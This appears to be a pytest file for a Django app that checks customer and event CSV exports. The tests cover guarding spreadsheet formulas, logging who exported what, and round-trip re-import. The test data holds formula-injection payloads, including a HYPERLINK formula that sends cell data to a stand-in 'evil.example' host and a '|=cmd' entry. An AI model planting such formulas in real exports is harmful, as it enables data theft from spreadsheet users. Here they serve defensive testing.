"""Files that are taken out: complete, safe to open, and noted."""

import csv
import io

import pytest
from django.contrib.auth.models import Group, User
from django.test import Client

from customers.domain.exports import guard, to_cell, unguard
from customers.models import Customer, Export
from customers.selectors import exporting
from customers.services import count_export, note_export
from tests.customers.factories import NOW, customer_of, identify, post, track
from tests.customers.imports.files import bring_in
from tests.journeys.factories import set_clock

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@x",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",  # noqa: RUF001 - as wide as a Chinese letter
    "＋1",  # noqa: RUF001
    "－1",  # noqa: RUF001
    "＠x",  # noqa: RUF001
    " =1",
    "\u00a0=1",
    ";=1",
    '"=1',
    ",=1",
    "|=cmd",
    "'=1",
    "+491701234567",
    '=HYPERLINK("http://evil.example?"&A1)',
    "\ttab",
]
HARMLESS = [
    "",
    "Ann",
    "a=1",
    "a-b",
    "1-2",
    "3",
    "O'Brien",
    "'quoted'",
    "Zoë",
    "李",
    "a,b",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert guard(text) == "'" + text
    assert to_cell(text, "plain") == text
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text):
    assert to_cell(text, "safe") == unguard(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (-0.5, "-0.5"),
        (1e21, "1e+21"),
        (True, "true"),
        (None, ""),
        ("\0=1", "'=1"),
        (["=1", "b"], '["=1","b"]'),
        ({"a": "-1"}, '{"a":"-1"}'),
    ],
)
def test_numbers_stay_numbers(value, cell):
    assert to_cell(value, "safe") == cell


def login(role):
    user = User.objects.create(username=role)
    user.groups.add(Group.objects.get(name=role))
    client = Client()
    client.force_login(user)
    return client


def read(answer):
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def people(db, monkeypatch):
    monkeypatch.setattr(exporting, "BATCH", 2)
    set_clock(NOW)
    post(
        identify("u1", traits={"name": "=cmd()", "debt": -5, "tags": ["a"]}),
        identify("u2", traits={"name": 'Zoë "Z", Jr.\nline', "phone": "+49170"}),
        identify("u3", traits={"=evil": 1}),
        identify("u4", anonymousId="cookie"),
        identify("u5", traits={"id": "own"}),
    )


def test_all_customers_go_out_and_it_is_noted_by_whom(people):
    rows = read(login("marketer").get("/api/customers.csv"))
    found = {row["user_id"]: row for row in rows}
    assert sorted(found) == ["u1", "u2", "u3", "u4", "u5"]
    assert (found["u1"]["name"], found["u1"]["debt"]) == ("'=cmd()", "-5")
    assert found["u1"]["tags"] == '["a"]'
    assert found["u2"]["name"] == 'Zoë "Z", Jr.\nline'
    assert found["u2"]["phone"] == "'+49170"
    assert found["u3"]["'=evil"] == "1"
    assert found["u4"]["anonymous_ids"] == "cookie"
    assert (found["u5"]["id"], found["u5"]["id (2)"]) == (
        str(customer_of("u5").pk),
        "own",
    )
    (noted,) = Export.objects.all()
    assert (noted.user_name, noted.what, noted.rows) == ("marketer", "all customers", 5)


def test_a_search_goes_out_as_it_is_found_plain_if_asked(people):
    path = "/api/customers.csv?q=u2&cells=plain"
    (row,) = read(login("marketer").get(path))
    assert (row["user_id"], row["phone"]) == ("u2", "+49170")
    assert Export.objects.get().what == 'customers found by "u2"'


def test_a_download_that_is_left_says_how_far_it_came(people):
    exported = note_export(user_id=User.objects.create().pk, user_name="", what="")
    pieces = count_export(exported, iter([("header", 0), ("a", 2), ("b", 2)]))
    assert [next(pieces), next(pieces)] == ["header", "a"]
    pieces.close()
    exported.refresh_from_db()
    assert exported.rows == 2


def test_what_cannot_be_asked_for_is_named(people):
    answer = login("marketer").get("/api/customers.csv?cells=xlsx")
    assert (answer.status_code, answer.json()["errors"][0]["field"]) == (400, "cells")


def test_events_of_a_customer_go_out_in_their_order(people):
    events = [track(hours_ago=n, properties={"n": n, "note": "=1"}) for n in range(5)]
    post(*events, track(revenue=None, properties={"revenue": -3.5}))
    id_ = customer_of("u1").pk
    rows = read(login("marketer").get(f"/api/customers/{id_}/events.csv"))
    assert [row["time"] for row in rows] == sorted(row["time"] for row in rows)
    assert len(rows) == 6
    assert rows[-1]["revenue"] == "-3.5000"
    assert rows[0]["properties"] == '{"n": 4, "note": "=1"}'


def test_what_went_out_can_come_in_again_and_changes_nothing(people):
    rows = read(login("marketer").get("/api/customers.csv"))
    text = io.StringIO(newline="")
    names = ["user_id", "name", "debt", "phone"]
    writer = csv.DictWriter(text, names, extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    before = list(Customer.objects.order_by("id").values())
    one = bring_in(text.getvalue())
    assert (one.counts["customers_changed"], one.counts["customers_same"]) == (0, 5)
    assert list(Customer.objects.order_by("id").values()) == before
